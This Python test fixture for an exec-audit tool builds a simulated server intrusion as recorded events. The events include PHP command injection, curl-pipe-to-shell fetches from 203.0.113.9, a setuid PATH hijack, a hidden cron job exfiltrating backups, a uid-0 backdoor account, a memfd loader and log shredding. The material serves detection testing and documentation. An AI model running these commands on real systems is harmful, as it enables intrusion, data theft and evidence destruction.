"""The incident of docs/recipes.md: one night of a web server, the same each time it is made.

`python -m tests.incident FILE` makes the history that the page asks. The file has more than 400 lines
because it is one story: a reader can follow the night from the first line to the last. For the same reason
some functions have more than 60 lines: each tells one part, a line an exec.
"""

from __future__ import annotations

import contextlib
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any, NamedTuple

from execaudit.enums import Gained, GapReason, Kind, Truncated
from execaudit.event import Gap, Hole, Nanoseconds
from execaudit.store.writer import Run, Store
from execaudit.system import clock
from tests.families import born
from tests.histories import BOOT_ID, HOST, SECOND, START, make_exit

if TYPE_CHECKING:
    from collections.abc import Iterator

    from execaudit.event import ExecEvent, ExitEvent

NIGHT = 1_795_402_800 - START
"""2026-11-23 03:00:00 UTC, in seconds after START."""
BEGIN = 1_795_384_800 - START
"""2026-11-22 22:00:00 UTC: recording begins."""
CONTAINER = b"7d1f2ab30c4e5f60718293a4b5c6d7e8f9012a3b4c5d6e7f8091a2b3c4d5e6f7"
_LONG = b"A" * 70_000
_DISK = 8 << 20 | 1


class _Who(NamedTuple):
    """What the execs of one user's session have in common."""

    fields: dict[str, Any]

    def __call__(self, **more: Any) -> dict[str, Any]:  # noqa: ANN401  # any field
        return {**self.fields, **more}


def _service(unit: bytes, uid: int = 0, user: str = "root") -> _Who:
    return _Who(
        {
            "uid": uid,
            "euid": uid,
            "gid": uid,
            "egid": uid,
            "user": user,
            "cgroup": b"/system.slice/" + unit,
            "device": _DISK,
        }
    )


def _login(uid: int, user: str, session: int, tty: bytes) -> _Who:
    cgroup = b"/user.slice/user-%d.slice/session-%d.scope" % (uid, session)
    login = {"auid": uid, "login_user": user, "session": session, "tty": tty, "cgroup": cgroup}
    return _Who({"uid": uid, "euid": uid, "gid": uid, "egid": uid, "user": user, "device": _DISK, **login})


class Incident:
    """The execs of the night, in the order in which they happened, and their ends."""

    def __init__(self) -> None:
        self.events: list[ExecEvent] = []
        self.exits: list[ExitEvent] = []
        self.gaps: list[Gap] = []
        """A burst of execs of the web server's user, in the evening: too many for the recorder."""
        self._inodes: dict[bytes, int] = {}
        self._tell()

    def run(
        self,
        parent: ExecEvent | None,
        at: float,
        path: str,
        *arguments: str | bytes,
        lasts: float | None = 0.002,
        status: int = 0,
        **fields: Any,  # noqa: ANN401  # any field
    ) -> ExecEvent:
        """Adds an exec `at` so many seconds after 03:00; it goes on if it `lasts` None. Returns it."""
        words = [word if isinstance(word, bytes) else word.encode() for word in arguments]
        exe = path.encode()
        known = {"filename": exe, "exe": exe, "inode": self._inode(exe), "nlink": 1, "privileged": Gained(0)}
        name = exe.rsplit(b"/", 1)[-1][:15]
        event = born(parent, *words, **{**known, "seconds": NIGHT + at, "comm": name, **fields})
        self.events.append(event)
        if event.kind is not Kind.FAILED and lasts is not None:
            self.exits.append(make_exit(event.key, NIGHT + at + lasts, status))
        return event

    def fail(
        self,
        caller: ExecEvent,
        at: float,
        path: str,
        *arguments: str,
        errno: int = 2,
        **fields: Any,  # noqa: ANN401  # any field
    ) -> None:
        """Adds an attempt: it has the caller's pid, name and image."""
        own = {"pid": caller.pid, "ppid": caller.ppid, "parent_comm": caller.launch.parent_comm}
        image = {"comm": caller.launch.comm, "exe": caller.launch.exe, "inode": caller.launch.inode}
        failed = {"kind": Kind.FAILED, "errno": errno, "privileged": None}
        self.run(caller, at, path, *arguments, **{**own, **image, **failed, **fields})

    def _inode(self, path: bytes) -> int:
        return self._inodes.setdefault(path, 131_072 + 17 * len(self._inodes))

    def _tell(self) -> None:
        self._tell_what_ran_before()
        self._tell_of_usual_work()
        self._tell_of_the_break_in()
        self._tell_of_root()
        self._tell_of_the_container()
        self._tell_of_the_login()
        self.events.sort(key=lambda event: event.time_ns)
        self.exits.sort(key=lambda ended: ended.time_ns)

    def _already(
        self,
        parent: ExecEvent | None,
        pid: int,
        path: str,
        *arguments: str,
        **fields: Any,  # noqa: ANN401  # any field
    ) -> ExecEvent:
        """Adds what ran when recording began."""
        begin = BEGIN - NIGHT
        snapshot = {"kind": Kind.SNAPSHOT, "filename": None, "privileged": None, "pid": pid}
        return self.run(parent, begin, path, *arguments, lasts=None, **{**snapshot, **fields})

    def _tell_what_ran_before(self) -> None:
        init = {"ppid": 0, "parent_comm": None, "comm": b"systemd", "cgroup": b"/init.scope", "device": _DISK}
        self.init = self._already(None, 1, "/usr/lib/systemd/systemd", "/sbin/init", **init)
        of = self.init
        self.cron = self._already(
            of, 640, "/usr/sbin/cron", "/usr/sbin/cron", "-f", **_service(b"cron.service")()
        )
        self.sshd = self._already(
            of, 812, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D", **_service(b"ssh.service")()
        )
        nginx = _service(b"nginx.service")
        master = self._already(of, 700, "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx", **nginx())
        www = {"uid": 33, "euid": 33, "gid": 33, "egid": 33, "user": "www-data"}
        self._already(master, 701, "/usr/sbin/nginx", "nginx: worker process", **nginx(**www))
        php = "/usr/sbin/php-fpm8.2"
        fpm = _service(b"php8.2-fpm.service")
        pool = self._already(of, 720, php, "php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)", **fpm())
        self.php = self._already(
            pool, 722, php, "php-fpm: pool www", **fpm(cwd=b"/var/www/shop/public", **www)
        )
        shim = self._already(
            of, 1500, "/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2", "-namespace", "moby",
            **_service(b"containerd.service")(),
        )  # fmt: skip
        self.inside = _Who(
            {
                **_service(b"docker-" + CONTAINER + b".scope")(),
                "root": b"/var/lib/docker/overlay2/5d0f/merged",
                "mnt_ns": 4_026_532_301,
                "cwd": b"/var/lib/docker/overlay2/5d0f/merged/app",
            }
        )
        self.node = self._already(shim, 1610, "/usr/local/bin/node", "node", "server.js", **self.inside())

    def _tell_of_usual_work(self) -> None:
        """A health check each five minutes, cron's hourly work, and an administrator in the evening."""
        cron = _service(b"cron.service")
        monitor = {"uid": 998, "euid": 998, "gid": 998, "egid": 998, "user": "monitor"}
        for number, at in enumerate(range(BEGIN - NIGHT + 60, 3600, 300)):
            pid = 5000 + 4 * number
            shell = self.run(
                self.cron, at, "/usr/bin/dash", "/bin/sh", "-c", "/usr/local/bin/healthcheck",
                pid=pid, comm=b"sh", filename=b"/bin/sh", lasts=0.05, **cron(**monitor),
            )  # fmt: skip
            check = self.run(
                shell, at + 0.01, "/usr/bin/dash", "/bin/sh", "/usr/local/bin/healthcheck", pid=pid + 1,
                filename=b"/usr/local/bin/healthcheck", comm=b"healthcheck", interpreter=b"/bin/sh", lasts=0.03,
                **cron(**monitor),
            )  # fmt: skip
            self.run(
                check, at + 0.012, "/usr/bin/curl", "curl", "-fsS", "http://localhost/health",
                pid=pid + 2, lasts=0.021, **cron(**monitor),
            )  # fmt: skip
        for number, at in enumerate(range(BEGIN - NIGHT + 1020, 3600, 3600)):
            self.run(
                self.cron, at, "/usr/bin/dash", "/bin/sh", "-c", "run-parts /etc/cron.hourly",
                pid=4800 + number, comm=b"sh", filename=b"/bin/sh", lasts=0.2, **cron(),
            )  # fmt: skip
        alice, evening = _login(1000, "alice", 12, b"pts/0"), -4 * 3600
        ssh = self.run(
            self.sshd,
            evening,
            "/usr/sbin/sshd",
            "sshd",
            "-D",
            "-R",
            pid=4400,
            lasts=840.0,
            **_service(b"ssh.service")(),
        )
        bash = self.run(
            ssh, evening + 2.4, "/usr/bin/bash", "-bash", pid=4410, lasts=830.0, cwd=b"/home/alice", **alice()
        )
        self.run(
            bash,
            evening + 40,
            "/usr/bin/vim",
            "vim",
            "/etc/nginx/sites-available/shop",
            pid=4411,
            lasts=312.4,
            **alice(),
        )
        sudo = self.run(
            bash, evening + 360, "/usr/bin/sudo", "sudo", "systemctl", "reload", "nginx",
            pid=4415, lasts=0.31, **alice(euid=0, privileged=Gained.SETUID),
        )  # fmt: skip
        root = {"uid": 0, "euid": 0, "gid": 0, "egid": 0, "user": "root"}
        self.run(
            sudo,
            evening + 360.2,
            "/usr/bin/systemctl",
            "systemctl",
            "reload",
            "nginx",
            pid=4416,
            lasts=0.08,
            **alice(**root),
        )

    def _tell_of_the_break_in(self) -> None:
        """PHP is made to start a shell, which fetches a script and runs it."""
        www = _service(b"php8.2-fpm.service", 33, "www-data")
        here = www(cwd=b"/var/www/shop/public")
        probe = self.run(
            self.php, 725.118, "/usr/bin/dash", "sh", "-c", "ping -c 1 127.0.0.1; id",
            pid=6101, comm=b"sh", filename=b"/bin/sh", lasts=0.012, **here,
        )  # fmt: skip
        self.run(probe, 725.121, "/usr/bin/ping", "ping", "-c", "1", "127.0.0.1", pid=6102, **here)
        self.run(probe, 725.126, "/usr/bin/id", "id", pid=6103, **here)
        self.shell = shell = self.run(
            self.php, 751.402, "/usr/bin/dash", "sh", "-c", "ping -c 1 ;curl -fsSL http://203.0.113.9/s.sh | sh",
            pid=6110, comm=b"sh", filename=b"/bin/sh", lasts=64.1, **here,
        )  # fmt: skip
        self.run(
            shell, 751.406, "/usr/bin/curl", "curl", "-fsSL", "http://203.0.113.9/s.sh",
            pid=6112, lasts=0.213, **here,
        )  # fmt: skip
        self.script = script = self.run(
            shell,
            751.407,
            "/usr/bin/dash",
            "sh",
            pid=6113,
            comm=b"sh",
            filename=b"/usr/bin/sh",
            lasts=64.0,
            **here,
        )
        self.run(script, 751.651, "/usr/bin/uname", "uname", "-a", pid=6114, **here)
        self.run(
            script, 751.7, "/usr/bin/find", "find", "/", "-xdev", "-perm", "-4000", "-type", "f",
            pid=6115, lasts=7.912, status=1 << 8, **here,
        )  # fmt: skip
        finder = self.run(
            script, 760.01, "/usr/bin/env", "env", "gcc", "-o", "/tmp/.x/up", "up.c",
            pid=6120, lasts=0.004, status=127 << 8, **here,
        )  # fmt: skip
        for number, folder in enumerate(("/usr/local/bin", "/usr/bin", "/bin")):
            attempt = ("gcc", "-o", "/tmp/.x/up", "up.c")
            self.fail(finder, 760.012 + number / 10_000, f"{folder}/gcc", *attempt, **here)
        self.run(
            script, 761.2, "/usr/bin/curl", "curl", "-so", "/tmp/.x/up", "http://203.0.113.9/up",
            pid=6121, lasts=0.38, **here,
        )  # fmt: skip
        forked = {"pid": 6122, "ppid": script.pid, "parent_comm": b"sh"}
        self.fail(script, 761.6, "/tmp/.x/up", "/tmp/.x/up", errno=13, **{**here, **forked})
        self.run(script, 761.61, "/usr/bin/chmod", "chmod", "+x", "/tmp/.x/up", pid=6123, **here)
        self.run(
            script, 761.62, "/tmp/.x/up (deleted)", "/tmp/.x/up", pid=6124, lasts=1.93, status=11 | 128,
            **www(cwd=b"/tmp/.x", comm=b"up", filename=b"/tmp/.x/up", nlink=0),
        )  # fmt: skip
        self.run(script, 761.625, "/usr/bin/rm", "rm", "-f", "/tmp/.x/up", pid=6125, **here)
        loader = self.run(
            script, 764.1, "/usr/bin/python3.11", "python3", "-", pid=6130, comm=b"python3", filename=b"/usr/bin/python3",
            lasts=None, **here,
        )  # fmt: skip
        self.run(
            loader, 764.31, "/memfd:x (deleted)", "[kworker/1:2]", pid=6130, ppid=loader.ppid, parent_comm=b"sh",
            replaces=True, filename=b"/proc/self/fd/3", comm=b"3", lasts=None, **www(cwd=b"/", nlink=0, device=1),
        )  # fmt: skip
        padded = b"\n".join((b"true " + _LONG, b"curl -s http://203.0.113.9/b | base64 -d > /tmp/.x/b"))
        self._cut(script, 770.9, padded, pid=6140, **here)
        self.gaps.append(
            Gap(HOST, at_night(-11_348.0), at_night(-11_345.5), GapReason.RING_FULL, 1184, 0, 33)
        )

    def _cut(self, parent: ExecEvent, at: float, line: bytes, **fields: Any) -> None:  # noqa: ANN401  # any field
        """Adds a shell whose command line is longer than --max-argv: the head and the tail are there."""
        whole = b"sh\0-c\0" + line + b"\0"
        kept = 64
        cut = {
            "argv": whole[:kept] + whole[-kept:],
            "argc": 3,
            "argv_bytes": len(whole),
            "holes": (Hole(kept, len(whole) - 2 * kept),),
            "truncated": Truncated.LIMIT,
        }
        self.run(
            parent, at, "/usr/bin/dash", "sh", **{**fields, **cut, "filename": b"/bin/sh", "comm": b"sh"}
        )

    def _tell_of_root(self) -> None:
        """A setuid helper runs `tar` by its name; a cron job stays behind."""
        www = _service(b"php8.2-fpm.service", 33, "www-data")
        root = {"euid": 0, "cwd": b"/tmp/.x"}
        helper = self.run(
            self.script, 780.2, "/usr/local/bin/backup-helper", "backup-helper", "--now",
            pid=6150, lasts=4.1, privileged=Gained.SETUID, **www(**root),
        )  # fmt: skip
        tar = self.run(
            helper, 780.21, "/usr/bin/dash", "/bin/sh", "/tmp/.x/tar", "czf", "/var/backups/shop.tgz", ".",
            pid=6151, comm=b"tar", filename=b"/tmp/.x/tar", interpreter=b"/bin/sh", lasts=4.0, **www(**root),
        )  # fmt: skip
        self.run(tar, 780.3, "/usr/bin/tee", "tee", "/etc/cron.d/sync", pid=6152, **www(**root))
        self.run(
            tar,
            780.4,
            "/usr/bin/install",
            "install",
            "-m",
            "755",
            "/tmp/.x/s",
            "/usr/lib/.sync",
            pid=6153,
            **www(**root),
        )
        self.run(
            tar, 781.0, "/usr/sbin/useradd", "useradd", "-o", "-u", "0", "-M", "support", pid=6154, lasts=0.09,
            **www(**root, uid=0, gid=0, user="root"),
        )  # fmt: skip
        cron = _service(b"cron.service")
        for number, at in enumerate((1201.0, 1801.0, 2401.0, 3001.0)):
            shell = self.run(
                self.cron, at, "/usr/bin/dash", "/bin/sh", "-c", "/usr/lib/.sync", pid=6301 + 4 * number,
                comm=b"sh", filename=b"/bin/sh", lasts=1.9, cwd=b"/root", **cron(),
            )  # fmt: skip
            sync = self.run(
                shell, at + 0.004, "/usr/bin/dash", "/bin/sh", "/usr/lib/.sync", pid=6302 + 4 * number, cwd=b"/root",
                comm=b".sync", filename=b"/usr/lib/.sync", interpreter=b"/bin/sh", lasts=1.88, **cron(),
            )  # fmt: skip
            self.run(
                sync, at + 0.03, "/usr/bin/curl", "curl", "-sT", "/var/backups/shop.tgz", "http://203.0.113.9/u/web1",
                pid=6303 + 4 * number, lasts=1.81, status=0 if number else 28 << 8, cwd=b"/root", **cron(),
            )  # fmt: skip

    def _tell_of_the_container(self) -> None:
        shell = self.run(
            self.node, 1502.3, "/bin/busybox", "/bin/sh", "-c", "wget -qO- http://203.0.113.9/c.sh | sh",
            pid=6400, comm=b"sh", filename=b"/bin/sh", lasts=2.2, **self.inside(),
        )  # fmt: skip
        self.run(
            shell, 1502.31, "/bin/busybox", "wget", "-qO-", "http://203.0.113.9/c.sh", pid=6401, comm=b"wget",
            filename=b"/usr/bin/wget", lasts=0.4, **self.inside(),
        )  # fmt: skip
        script = self.run(
            shell,
            1502.32,
            "/bin/busybox",
            "sh",
            pid=6402,
            comm=b"sh",
            filename=b"/bin/sh",
            lasts=2.1,
            **self.inside(),
        )
        finder = self.run(
            script, 1503.0, "/bin/busybox", "env", "docker", "ps", pid=6403, comm=b"env",
            filename=b"/usr/bin/env", status=127 << 8, **self.inside(),
        )  # fmt: skip
        self.fail(finder, 1503.001, "/usr/bin/docker", "docker", "ps", **self.inside())

    def _tell_of_the_login(self) -> None:
        """Somebody comes back with a stolen key, becomes root and cleans up."""
        deploy = _login(1001, "deploy", 31, b"pts/1")
        root = {"uid": 0, "euid": 0, "gid": 0, "egid": 0, "user": "root", "cwd": b"/root"}
        ssh = self.run(
            self.sshd,
            2460.0,
            "/usr/sbin/sshd",
            "sshd",
            "-D",
            "-R",
            pid=6500,
            lasts=None,
            **_service(b"ssh.service")(),
        )
        bash = self.run(
            ssh, 2461.2, "/usr/bin/bash", "-bash", pid=6510, lasts=None, cwd=b"/home/deploy", **deploy()
        )
        sudo = self.run(
            bash,
            2469.0,
            "/usr/bin/sudo",
            "sudo",
            "-i",
            pid=6511,
            lasts=None,
            **deploy(euid=0, privileged=Gained.SETUID),
        )
        shell = self.run(sudo, 2469.3, "/usr/bin/bash", "-bash", pid=6512, lasts=None, **deploy(**root))
        self.run(
            shell, 2481.0, "/usr/bin/shred", "shred", "-u", "/var/log/auth.log", "/var/log/nginx/access.log",
            pid=6513, lasts=1.4, **deploy(**root),
        )  # fmt: skip
        self.run(
            shell,
            2490.0,
            "/usr/bin/journalctl",
            "journalctl",
            "--vacuum-time=1s",
            pid=6514,
            lasts=0.7,
            **deploy(**root),
        )
        self.run(
            shell,
            2502.0,
            "/usr/bin/strace",
            "strace",
            "-f",
            "-o",
            "/tmp/.x/k",
            "su",
            "alice",
            pid=6515,
            lasts=9.0,
            **deploy(**root),
        )
        self.run(
            self.events[-1], 2502.1, "/usr/bin/su", "su", "alice", pid=6516, lasts=8.8, status=1 << 8, traced=6515,
            **deploy(**root),
        )  # fmt: skip
        self.run(
            shell, 2520.0, "/usr/bin/printf", b"printf", b"\xff\xfe\x1b[2J", pid=6517, **deploy(**root)
        )  # not UTF-8, and it would clear the reader's screen


def at_night(seconds: float) -> Nanoseconds:
    """Returns the time so many seconds after 03:00."""
    return Nanoseconds((START + NIGHT) * SECOND + round(seconds * SECOND))


@contextlib.contextmanager
def recorded(path: Path) -> Iterator[Store]:
    """Stores the incident. Its recorder still records, until now, as long as the body runs."""
    incident = Incident()
    with Store(path) as store:
        store.begin_run(Run(boot_id=BOOT_ID, host=HOST, version="0", started_ns=at_night(BEGIN - NIGHT - 1)))
        store.append(incident.events, incident.gaps, incident.exits, seen_ns=clock.wall_ns())
        while store.index():
            pass
        yield store


if __name__ == "__main__":
    with recorded(Path(sys.argv[1])):
        pass
